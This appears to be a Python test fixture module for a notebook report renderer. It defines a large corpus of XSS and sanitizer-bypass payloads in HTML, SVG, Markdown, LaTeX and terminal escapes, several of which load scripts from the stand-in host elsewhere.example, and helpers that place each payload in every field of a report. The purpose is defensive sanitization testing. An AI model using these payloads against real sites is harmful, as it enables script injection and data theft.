"""What an attacker would put into a report, and where: each would set `window.hit`, ask, or load from elsewhere."""

import base64
import io
from typing import Any

import pandas as pd
import projects
from PIL import Image

from pipeline.review.rendered import RenderedCell
from pipeline.review.rendering import render

ELSEWHERE = "https://elsewhere.example"
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="72pt" height="36pt"'
    ' onload="window.hit=1"><script>window.hit=1</script><style>@import url(https://elsewhere.example/a.css);</style>'
    '<a xlink:href="javascript:window.hit=1"><text x="1" y="9">drawn</text></a><rect width="9" height="9"'
    ' onclick="window.hit=1" style="fill:url(https://elsewhere.example/b.svg#p)"/><foreignObject><body'
    ' xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://elsewhere.example"/></body></foreignObject>'
    '<image href="https://elsewhere.example/c.png"/><use xlink:href="https://elsewhere.example/d.svg#x"/>'
    '<animate attributeName="href" to="javascript:window.hit=1"/><set attributeName="onload" to="window.hit=1"/>'
    '<circle cx="20" cy="9" r="5" fill="red"/></svg>'
)
ENTITIES = (
    '<!DOCTYPE svg [<!ENTITY a "&#60;script>window.hit=1</script>">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>'
)
HTML = {
    "script": "<script>window.hit=1</script>",
    "script in capitals": "<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>",
    "script that is not closed": "<script>window.hit=1",
    "script within script": "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "module": '<script type="module">import "https://elsewhere.example/m.js"</script>',
    "onerror": "<img src=x onerror=window.hit=1>",
    "onerror after a slash": '<img/src="x"/onerror="window.hit=1">',
    "onerror behind a quote": '<img alt="&quot; onerror=window.hit=1 x=&quot;" src="x">',
    "svg onload": "<svg onload=window.hit=1>",
    "svg script": "<svg><script>window.hit=1</script></svg>",
    "svg script entity": "<svg><script>window&#46;hit=1</script></svg>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:window.hit=1 /><text>x</text></a></svg>",
    "svg use": '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>',
    "body": "<body onload=window.hit=1 onpageshow=window.hit=1>",
    "focus": "<input autofocus onfocus=window.hit=1><a id=x tabindex=1 onfocus=window.hit=1 autofocus>x</a>",
    "details": "<details open ontoggle=window.hit=1><summary>s</summary>d</details>",
    "marquee": "<marquee onstart=window.hit=1>m</marquee>",
    "pointer": "<div onpointerover=window.hit=1 onmouseover=window.hit=1 style=position:fixed;inset:0>over</div>",
    "animation": "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=window.hit=1>x</p>",
    "javascript link": '<a href="javascript:window.hit=1">j</a>',
    "javascript link in pieces": '<a href=" jav&#x09;ascript&colon;window.hit=1">j</a>',
    "javascript link in capitals": '<a href="&#1;JaVaScRiPt:window.hit=1">j</a>',
    "javascript link of numbers": '<a href="&#106&#97&#118&#97script:window.hit=1">j</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">v</a>',
    "data link": '<a href="data:text/html,<script>window.hit=1</script>">d</a>',
    "link to a file": '<a href="file:///etc/passwd">f</a><a href="//elsewhere.example/x">s</a><a href="/approve">a</a>',
    "link to a frame": f'<a href="{ELSEWHERE}" target="_top" ping="{ELSEWHERE}/p" download rel="opener">o</a>',
    "data picture": '<img src="data:text/html,<script>window.hit=1</script>">',
    "data picture of html": '<img src="data:image/png;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=">',
    "picture elsewhere": f'<img src="{ELSEWHERE}/p.png" srcset="{ELSEWHERE}/q.png 2x">',
    "picture set": f"<picture><source srcset={ELSEWHERE}/r.png><img src=x></picture>",
    "css url": f"<p style=\"background:url('{ELSEWHERE}/s.png')\">styled</p>",
    "css import": f"<style>@import '{ELSEWHERE}/t.css'; body{{display:none}}</style>",
    "css expression": '<p style="width:expression(window.hit=1);behavior:url(#x);-moz-binding:url(#y)">x</p>',
    "stylesheet": f'<link rel=stylesheet href="{ELSEWHERE}/u.css"><link rel=preload as=image href="{ELSEWHERE}/v.png">',
    "font": f"<style>@font-face{{font-family:f;src:url({ELSEWHERE}/f.woff)}}</style>",
    "refresh": f'<meta http-equiv=refresh content="0;url={ELSEWHERE}">',
    "policy": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'\">",
    "base": f'<base href="{ELSEWHERE}/" target=_top>',
    "form": f'<form action="{ELSEWHERE}" id=approve><input name=token value=1><button>go</button></form>',
    "button elsewhere": f'<button form=approve formaction="{ELSEWHERE}">go</button><isindex action=javascript:1>',
    "iframe": f'<iframe src="{ELSEWHERE}" srcdoc="<script>parent.hit=1</script>"></iframe>',
    "frames": f'<frameset><frame src="javascript:parent.hit=1"><frame src="{ELSEWHERE}"></frameset>',
    "object": f'<object data="{ELSEWHERE}/w.swf"><embed src="{ELSEWHERE}/x.swf"></object><applet code=x></applet>',
    "object of html": "<object data='data:text/html,<script>parent.hit=1</script>' type=text/html></object>",
    "media": (
        f'<video poster="{ELSEWHERE}/y.png" src="{ELSEWHERE}/y.mp4" autoplay></video><audio src=x onerror=window.hit=1>'
    ),
    "track": f'<video><source onerror=window.hit=1><track src="{ELSEWHERE}/z.vtt"></video>',
    "template": "<template><img src=x onerror=window.hit=1></template>",
    "shadow": "<div><template shadowrootmode=open><script>window.hit=1</script></template></div>",
    "background": f'<table background="{ELSEWHERE}/b.png"><tr><td background="{ELSEWHERE}/c.png">t</td></tr></table>',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
    "title": '<title><a title="</title><img src=x onerror=window.hit=1>">',
    "textarea": '<textarea><a title="</textarea><img src=x onerror=window.hit=1>">',
    "xmp": '<xmp><p title="</xmp><img src=x onerror=window.hit=1>">',
    "plaintext": "<plaintext><img src=x onerror=window.hit=1>",
    "noembed": '<noembed><p title="</noembed><img src=x onerror=window.hit=1>"></noembed>',
    "comment": "<!--><img src=x onerror=window.hit=1>-->",
    "comment that ends early": "<!-- --!><img src=x onerror=window.hit=1> -->",
    "conditional comment": "<!--[if gte IE 4]><script>window.hit=1</script><![endif]-->",
    "cdata": "<![CDATA[<script>window.hit=1</script>]]><svg><![CDATA[><img src=x onerror=window.hit=1>]]></svg>",
    "instruction": "<?xml-stylesheet href='javascript:window.hit=1'?><!DOCTYPE html><!ENTITY x>",
    "mathml link": "<math href=javascript:window.hit=1><mi xlink:href=javascript:window.hit=1>CLICK</mi></math>",
    "mathml action": "<math><maction actiontype=statusline xlink:href=javascript:window.hit=1>x</maction></math>",
    "mxss style": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hit=1&gt;'>"
    ),
    "mxss form": (
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=window.hit=1 src>'>"
    ),
    "mxss noscript": "<svg></p><style><a id='</style><img src=1 onerror=window.hit=1>'>",
    "mxss svg title": "<svg><title><style><img src='</style><img src=x onerror=window.hit=1>'></style></title></svg>",
    "mxss annotation": (
        '<math><annotation-xml encoding="text/html"><style><img src="</style><img src=x onerror=window.hit=1>">'
        "</style></annotation-xml></math>"
    ),
    "mxss select": "<select><style><</style><option><img src=x onerror=window.hit=1></select>",
    "mxss desc": "<svg><desc><noscript><p title='</noscript><img src=x onerror=window.hit=1>'></noscript></desc></svg>",
    "unclosed quote": '<a title="<img src=x onerror=window.hit=1>',
    "unclosed tags": "<div><table><tr><td><b><i><a href=x><p>unclosed",
    "tags closed too often": "</div></section></body></html></td></tr></table></p></pre></p>after",
    "list within list item": "<li><div><li>x</div></li></div></section>after",
    "table out of place": "<table><div><td>x<table></table><p></table></div><tr><li>after",
    "formatting out of order": "<b><p><i></b><div></p></i></div></a><a><a><nobr><nobr>after",
    "null bytes": "<scr\x00ipt>window.hit=1</scr\x00ipt><img src=x o\x00nerror=window.hit=1>",
    "entity without end": f"&#{'9' * 5000};<p title='&#{'9' * 5000};'>x",
    "lone surrogate": "<p title='\ud800'>\udfff&#xd800;</p>",
    "byte order and direction": "\ufeff<p dir=rtl>\u202e<script\u2028>window.hit=1</script>",
    "ids of the site": "<div id=cell-glue class='toolbar approve'><a name=approve></a><h1 id=main>x</h1></div>",
    "globals": "<img name=body src=x><a id=hit></a><form name=documentElement></form><img id=getElementById>",
    "custom element": "<x-y onclick=window.hit=1 is=z>c</x-y><slot onslotchange=window.hit=1></slot>",
    "popover": "<button popovertarget=p>b</button><div popover id=p onbeforetoggle=window.hit=1>p</div>",
    "speculation": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{ELSEWHERE}"]}}]}}</script>',
    "import map": '<script type=importmap>{"imports":{}}</script>',
    "svg in a picture": f'<img src="data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}">',
}
MARKDOWN = {
    "link": "[l](javascript:window.hit=1) [m](<java\tscript:window.hit=1>) [n](data:text/html;base64,PHNjcmlwdD4=)",
    "link by reference": '[r]\n\n[r]: javascript:window.hit=1 "t"',
    "automatic link": "<javascript:window.hit=1> https://elsewhere.example/?<script>",
    "link title": '[t](https://elsewhere.example/t "x\\" onmouseover=\\"window.hit=1")',
    "picture": f'![a]({ELSEWHERE}/a.png "x") ![b](javascript:window.hit=1) ![" onerror="window.hit=1](x)',
    "picture alt": '![$\\text{" onerror="window.hit=1}$](attachment:a.png)',
    "code": '```js" onmouseover="window.hit=1\n<script>window.hit=1</script>\n```',
    "mermaid": "```mermaid\n<img src=x onerror=window.hit=1>\n```",
    "heading": "# <img src=x onerror=window.hit=1> $x$ `</h1><script>window.hit=1</script>`",
    "table": (
        "| <script>window.hit=1</script> | b |\n|:-:|--:|\n| [x](javascript:window.hit=1) | <td onclick=window.hit=1> |"
    ),
    "task": "- [x] <input type=image src=x onerror=window.hit=1>\n- [ ] todo",
    "formula": r"$\href{javascript:window.hit=1}{x}$ $\text{<script>window.hit=1</script>}$ $\class{x' onclick='y}{z}$",
    "formula of entities": (
        r"$\text{&lt;img src=x onerror=window.hit=1&gt;}$ "
        r"$$\style{background:url(//elsewhere.example)}{x}$$"
    ),
    "formula that grows": r"$\newcommand{\a}{xxxxxxxxxx}\newcommand{\b}{\a\a\a\a\a\a\a\a}\b\b\b$",
    "formula that is deep": "$" + "{" * 500 + "x" + "}" * 500 + "$",
    "word of a formula": f"formula{'0' * 32}x0x $x$",
}
TERMINAL = {
    "markup": "\x1b[31m<script>window.hit=1</script>\x1b[0m",
    "style": '\x1b[38;2;1;2;3m" style="x\x1b[48;5;200m<img src=x onerror=window.hit=1>',
    "link": "\x1b]8;;javascript:window.hit=1\x07click\x1b]8;;\x07",
    "numbers": "\x1b[" + "9" * 5000 + "m\x1b[38;5;999m\x1b[38;2m\x1b[",
}
CORPUS = {
    **{f"html: {name}": payload for name, payload in HTML.items()},
    **{f"markdown: {name}": payload for name, payload in MARKDOWN.items()},
    **{f"terminal: {name}": payload for name, payload in TERMINAL.items()},
    "drawing": SVG,
    "drawing with entities": ENTITIES,
}


def png(width: int = 8, height: int = 6) -> bytes:
    """Return a picture whose colours change from place to place."""
    image = Image.new("RGB", (width, height))
    image.putdata([(x * 255 // width, y * 255 // height, 90) for y in range(height) for x in range(width)])
    return saved(image, "PNG")


def saved(image: Image.Image, form: str) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, form)
    return buffer.getvalue()


def shown(**mimes: object) -> dict[str, Any]:
    """Return an output of several forms; `text_html` stands for `text/html`."""
    data = {name.replace("_", "/", 1): value for name, value in mimes.items()}
    return {"output_type": "display_data", "metadata": {}, "data": data}


def code(*outputs: object, source: str = "1 + 1", name: str = "work") -> dict[str, Any]:
    return projects.cell("code", name, source) | {"outputs": list(outputs)}


def report(*cells: dict[str, Any]) -> dict[str, Any]:
    return projects.document(list(cells))


def prose_cell(source: str, name: str = "prose") -> dict[str, Any]:
    return projects.cell("markdown", name, source)


def only(*cells: dict[str, Any]) -> RenderedCell:
    """Render a report, and return its first cell."""
    return render(report(*cells), stage="work").cells[0]


def everywhere(name: str) -> dict[str, Any]:
    """Return a report in which a payload stands wherever it could."""
    return report(*_everywhere(CORPUS[name]))


def _everywhere(payload: str) -> list[dict[str, Any]]:
    columns, index = (pd.Index([payload, other], dtype=object) for other in ("n", "y"))
    frame = pd.DataFrame([[payload, 1], ["x", 2]], index, columns, dtype=object)
    prose = projects.cell("markdown", payload, payload, payload)
    prose["attachments"] = {"a.png": {"image/png": base64.b64encode(png()).decode()}, payload: {payload: payload}}
    described = shown(image_png=base64.b64encode(png()).decode())
    described["metadata"] = {"image/png": {"alt": payload, "width": payload, "height": 4}}
    scrap = {"name": payload, "data": payload, "encoder": payload, "version": 1}
    glued = shown(**{"application_scrapbook.scrap.json+json": scrap}) | {
        "metadata": {"pipeline": {"kind": payload, "rows": payload}}
    }
    plotly = {"data": [], "layout": {"title": {"text": payload}}}
    outputs = [
        shown(text_html=payload),
        shown(text_html=frame.to_html(escape=False)),
        shown(text_html=frame.to_html(), text_plain=repr(frame)),
        shown(text_html=frame.style.format().to_html()),
        shown(text_markdown=payload),
        shown(text_latex=f"${payload}$"),
        shown(text_latex=rf"$\text{{{payload}}}$"),
        shown(text_plain=payload),
        shown(**{"image_svg+xml": payload}),
        shown(**{"image_svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg"><text>{payload}</text></svg>'}),
        shown(image_png=payload, image_jpeg=base64.b64encode(payload.encode("utf-8", "replace")).decode()),
        shown(application_json={payload: [payload]}),
        shown(application_javascript=payload, text_plain=payload),
        shown(**{"application_vnd.plotly.v1+json": plotly, "text_html": f"<div>{payload}</div>"}),
        shown(**{payload: payload}),
        described,
        glued,
        {"output_type": "stream", "name": payload, "text": payload},
        {"output_type": "stream", "name": "stderr", "text": [payload]},
        {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]},
        {"output_type": "error", "ename": payload, "evalue": payload, "traceback": []},
        {"output_type": payload},
        payload,
        {"output_type": "display_data", "data": payload, "metadata": payload},
    ]
    code_cell = code(*outputs, source=payload, name=f"{payload}-2")
    code_cell["metadata"] = {"tags": [payload], "papermill": {"status": payload, "duration": payload}}
    return [prose, code_cell, projects.cell("raw", "raw", payload)]
